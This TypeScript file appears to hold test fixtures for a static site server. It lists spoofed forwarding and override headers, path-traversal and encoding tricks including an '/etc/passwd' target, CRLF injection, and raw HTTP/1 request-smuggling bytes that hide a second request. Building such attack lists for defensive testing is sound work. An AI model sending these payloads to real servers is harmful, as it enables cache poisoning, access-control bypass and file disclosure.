/** What attackers try: fields, targets and bytes that make an application answer something else under a page's URL. */

/** Requests for the page with fields that applications, frameworks and proxies listen to. */
export const fields: Readonly<Record<string, Readonly<Record<string, string>>>> = Object.fromEntries(
  [
    ['X-Forwarded-Host', 'evil.test'],
    ['X-Forwarded-Host', 'site.test, evil.test'],
    ['X-Forwarded-Host', 'site.test:1337'],
    ['X-Forwarded-Host', 'site.test"><script>'],
    ['X-Host', 'evil.test'],
    ['X-Original-Host', 'evil.test'],
    ['X-HTTP-Host-Override', 'evil.test'],
    ['Forwarded', 'host=evil.test'],
    ['Forwarded', 'for=1.2.3.4;host="evil.test";proto=http'],
    ['Forwarded', 'proto=javascript'],
    ['Forwarded', ';;=,'],
    ['X-Forwarded-Proto', 'javascript'],
    ['X-Forwarded-Scheme', 'nothttps'],
    ['X-Forwarded-Port', '1337'],
    ['X-Forwarded-Prefix', '//evil.test'],
    ['X-Forwarded-Path', '/admin'],
    ['X-Script-Name', '/evil'],
    ['X-Original-URL', '/admin'],
    ['X-Rewrite-URL', '/admin'],
    ['X-Override-URL', '/admin'],
    ['X-HTTP-Method-Override', 'DELETE'],
    ['X-HTTP-Method', 'POST'],
    ['X-Method-Override', 'PUT'],
    ['Authorization', 'Bearer secret'],
    ['Authorization', ''],
    ['Proxy-Authorization', 'Basic YTpi'],
    ['X-Forwarded-User', 'alice'],
    ['Remote-User', 'alice'],
    ['X-Api-Key', 'secret'],
    ['Cookie', 'session=alice'],
    ['Cookie', '_ga=1; session=alice; _gid=2'],
    ['Cookie', '_ga=1;;session=alice'],
    ['Cookie', 'session'],
    ['HX-Request', 'true'],
    ['HX-Boosted', 'true'],
    ['HX-Anything-To-Come', '1'],
    ['RSC', '1'],
    ['Next-Router-State-Tree', '%5B%22%22%5D'],
    ['Next-Router-Prefetch', '1'],
    ['Next-Action', 'abc'],
    ['X-Nextjs-Data', '1'],
    ['X-Middleware-Subrequest', 'middleware'],
    ['X-Invoke-Status', '500'],
    ['X-Matched-Path', '/500'],
    ['Turbo-Frame', 'inner'],
    ['X-PJAX', 'true'],
    ['X-Requested-With', 'XMLHttpRequest'],
    ['X-Inertia', 'true'],
    ['X-Livewire', 'true'],
    ['X-Up-Target', 'main'],
    ['X-Nuxt-No-SSR', '1'],
    ['Precognition', 'true'],
    ['Accept', 'application/json'],
    ['Accept', 'text/html;q=0, */*'],
    ['Accept', 'text/x-component'],
    ['Range', 'bytes=0-2'],
    ['Range', 'bytes=0-2, 4-5'],
  ].map(([name, value]) => [`${name}: ${value}`, { [name!]: value! }]),
);

/** Requests for something that is not the page, however much it looks like it. */
export const targets: readonly ((path: string) => string)[] = [
  (path) => `/${path}`,
  (path) => `//evil.test${path}`,
  (path) => `/.${path}`,
  (path) => `/x/..${path}`,
  (path) => `/x/%2e%2e${path}`,
  (path) => `/x/%2E.${path}`,
  (path) => `/x/..%2f${path.slice(1)}`,
  (path) => `/x/..%5c${path.slice(1)}`,
  (path) => `/x\\..${path}`,
  (path) => `${path}/.`,
  (path) => `${path}/..`,
  (path) => `${path}/%2e%2e`,
  (path) => `${path}/%2e`,
  (path) => `${path}/`,
  (path) => `${path}//`,
  (path) => `${path}/../../../../etc/passwd`,
  (path) => `/%${path.charCodeAt(1).toString(16)}${path.slice(2)}`,
  (path) => `${path}%00`,
  (path) => `${path}%00.css`,
  (path) => `${path}%0d%0aX-Evil:%20yes`,
  (path) => `${path}%0a`,
  (path) => `${path}%09`,
  (path) => `${path}%20`,
  (path) => `${path}.`,
  (path) => `${path};v=1`,
  (path) => `${path};.css`,
  (path) => `${path}%3bv=1`,
  (path) => `${path}%3f`,
  (path) => `${path}%23`,
  (path) => `${path}?x`,
  (path) => `${path}?`,
  (path) => `${path}??`,
  (path) => `${path}?callback=evil`,
  (path) => `${path}#x`,
  (path) => `${path}&x`,
  (path) => `${path}/evil.css`,
  (path) => `${path}%2fevil.css`,
  (path) => `${path}/evil.js`,
  (path) => `/%2f${path.slice(1)}`,
  (path) => `/%5c${path.slice(1)}`,
  (path) => `/%252f${path.slice(1)}`,
  (path) => `/x/%252e%252e${path}`,
  (path) => `/%c0%af${path.slice(1)}`,
  (path) => `/%c0%ae%c0%ae${path}`,
  (path) => `/%e0%80%af${path.slice(1)}`,
  (path) => `/%ef%bc%8f${path.slice(1)}`,
  (path) => `/%u002f${path.slice(1)}`,
  (path) => `${path}%`,
  (path) => `${path}%zz`,
  (path) => `${path}%ff`,
  (path) => `${path}%ed%a0%80`,
  (path) => `${path}%e2%80%8b`,
  (path) => `${path}%7f`,
  (path) => `${path}.gz`,
  (path) => `${path}.br`,
  (path) => `${path}.pagetree`,
  (path) => `${path}/__page.html`,
  (path) => `${path}/__index.html`,
  (path) => `${path}/${'x'.repeat(5000)}`,
  (path) => `${path}${'/x'.repeat(2000)}`,
  (path) => `/.pagetree/meta${path}`,
  () => '/.pagetree/tree.json',
  () => '/CACHEDIR.TAG',
];

/** Fields of every attack that is written by hand. */
const host = 'Host: site.test';
const chunked = 'Transfer-Encoding: chunked';
const smuggled = (path: string): string =>
  `GET ${path} HTTP/1.1\r\nX-Forwarded-Host: evil.test\r\nHost: site.test\r\n\r\n`;

function head(...lines: readonly string[]): string {
  return `${lines.join('\r\n')}\r\n\r\n`;
}

/** Bytes of HTTP/1 that servers and proxies read in more than one way. */
export const bytes: Readonly<Record<string, (path: string) => string>> = {
  'a length and chunks, the length right': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, 'Content-Length: 5', chunked)}0\r\n\r\n`,
  'chunks and a length that hides a request': (path) =>
    `${head(`POST ${path} HTTP/1.1`, host, `Content-Length: ${5 + smuggled(path).length}`, chunked)}0\r\n\r\n${smuggled(path)}`,
  'a length that hides a request': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, `Content-Length: ${smuggled(path).length}`)}${smuggled(path)}`,
  'two lengths that differ': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, 'Content-Length: 0', 'Content-Length: 4')}evil`,
  'two lengths that agree': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, 'Content-Length: 4', 'Content-Length: 4')}evil`,
  'lengths in a list': (path) => `${head(`GET ${path} HTTP/1.1`, host, 'Content-Length: 4, 4')}evil`,
  'a length with a sign': (path) => `${head(`GET ${path} HTTP/1.1`, host, 'Content-Length: +4')}evil`,
  'a length in hex': (path) => `${head(`GET ${path} HTTP/1.1`, host, 'Content-Length: 0x4')}evil`,
  'a length below nothing': (path) => `${head(`GET ${path} HTTP/1.1`, host, 'Content-Length: -1')}evil`,
  'a coding that is none': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, 'Transfer-Encoding: xchunked')}0\r\n\r\n`,
  'chunks, then identity': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, 'Transfer-Encoding: chunked, identity')}0\r\n\r\n`,
  'chunks twice': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, chunked, 'Transfer-Encoding: identity')}0\r\n\r\n`,
  'a space before the colon': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, 'Transfer-Encoding : chunked')}0\r\n\r\n`,
  'a tab before the coding': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, 'Transfer-Encoding:\tchunked')}4\r\nevil\r\n0\r\n\r\n`,
  'a vertical tab before the coding': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, 'Transfer-Encoding:\x0bchunked')}0\r\n\r\n`,
  'a folded line': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, 'Transfer-Encoding:', ' chunked')}4\r\nevil\r\n0\r\n\r\n`,
  'lines that end in LF alone': (path) =>
    `GET ${path} HTTP/1.1\nHost: site.test\nX-Forwarded-Host: evil.test\n\n`,
  'a CR in a field': (path) => head(`GET ${path} HTTP/1.1`, host, 'X-A: b\rX-Forwarded-Host: evil.test'),
  'a NUL in a field': (path) => head(`GET ${path} HTTP/1.1`, host, 'X-A: b\0c'),
  'a field without a name': (path) => head(`GET ${path} HTTP/1.1`, host, ': evil'),
  'a name with a bracket': (path) => head(`GET ${path} HTTP/1.1`, host, 'X[A]: evil'),
  'a chunk with an extension': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, chunked)}4;a=b\r\nevil\r\n0\r\n\r\n`,
  'a chunk that is too large to be true': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, chunked)}fffffffffffffffff\r\nevil\r\n0\r\n\r\n`,
  'a chunk that ends in LF alone': (path) => `${head(`GET ${path} HTTP/1.1`, host, chunked)}4\nevil\n0\n\n`,
  'trailers that look like fields': (path) =>
    `${head(`GET ${path} HTTP/1.1`, host, chunked, 'Trailer: X-Forwarded-Host')}0\r\nX-Forwarded-Host: evil.test\r\n\r\n`,
  'a body with a length': (path) => `${head(`GET ${path} HTTP/1.1`, host, 'Content-Length: 4')}evil`,
  'a body in chunks': (path) => `${head(`GET ${path} HTTP/1.1`, host, chunked)}4\r\nevil\r\n0\r\n\r\n`,
  'a HEAD with a body': (path) => `${head(`HEAD ${path} HTTP/1.1`, host, 'Content-Length: 4')}evil`,
  'a method in small letters': (path) => head(`get ${path} HTTP/1.1`, host),
  'two spaces': (path) => head(`GET  ${path} HTTP/1.1`, host),
  'a tab for a space': (path) => head(`GET\t${path} HTTP/1.1`, host),
  'another version': (path) => head(`GET ${path} HTTP/1.2`, host),
  'HTTP/0.9': (path) => `GET ${path}\r\n`,
  'HTTP/2.0 in HTTP/1': (path) => head(`GET ${path} HTTP/2.0`, host),
  'the preface of HTTP/2': () => 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  'empty lines ahead': (path) => `\r\n\r\n${head(`GET ${path} HTTP/1.1`, host)}`,
  TRACE: (path) => head(`TRACE ${path} HTTP/1.1`, host),
  PURGE: (path) => head(`PURGE ${path} HTTP/1.1`, host),
  'an absolute target of another host': (path) => head(`GET http://evil.test${path} HTTP/1.1`, host),
  'an absolute target of this host': (path) =>
    head(`GET http://site.test${path} HTTP/1.1`, 'Host: evil.test'),
  'an absolute target with a user': (path) => head(`GET http://site.test@evil.test${path} HTTP/1.1`, host),
  'a target that is an authority': () => head('GET evil.test:80 HTTP/1.1', host),
  'a target without a slash': (path) => head(`GET ${path.slice(1)} HTTP/1.1`, host),
  'a target that begins with a backslash': (path) => head(`GET \\${path.slice(1)} HTTP/1.1`, host),
  'a target with bytes beyond ASCII': (path) => head(`GET ${path}\xff HTTP/1.1`, host),
  'two hosts': (path) => head(`GET ${path} HTTP/1.1`, host, 'Host: evil.test'),
  'two hosts in one field': (path) => head(`GET ${path} HTTP/1.1`, 'Host: site.test, evil.test'),
  'a host with a user': (path) => head(`GET ${path} HTTP/1.1`, 'Host: site.test@evil.test'),
  'a host with a path': (path) => head(`GET ${path} HTTP/1.1`, 'Host: site.test/evil'),
  'an empty host': (path) => head(`GET ${path} HTTP/1.1`, 'Host:'),
  'X-Forwarded-Host twice, the first one true': (path) =>
    head(`GET ${path} HTTP/1.1`, host, 'X-Forwarded-Host: site.test', 'X-Forwarded-Host: evil.test'),
  'two cookies, the first one harmless': (path) =>
    head(`GET ${path} HTTP/1.1`, host, 'Cookie: _ga=1', 'Cookie: session=alice'),
  'Connection that names an end-to-end field': (path) =>
    head(`GET ${path} HTTP/1.1`, host, 'Connection: keep-alive, Cookie'),
  'an upgrade': (path) =>
    head(`GET ${path} HTTP/1.1`, host, 'Connection: upgrade, close', 'Upgrade: websocket'),
  'an upgrade to HTTP/2': (path) =>
    head(
      `GET ${path} HTTP/1.1`,
      host,
      'Connection: upgrade, http2-settings, close',
      'Upgrade: h2c',
      'HTTP2-Settings: AA',
    ),
  'a head that is too large': (path) => head(`GET ${path} HTTP/1.1`, host, `X-Large: ${'x'.repeat(20_000)}`),
};
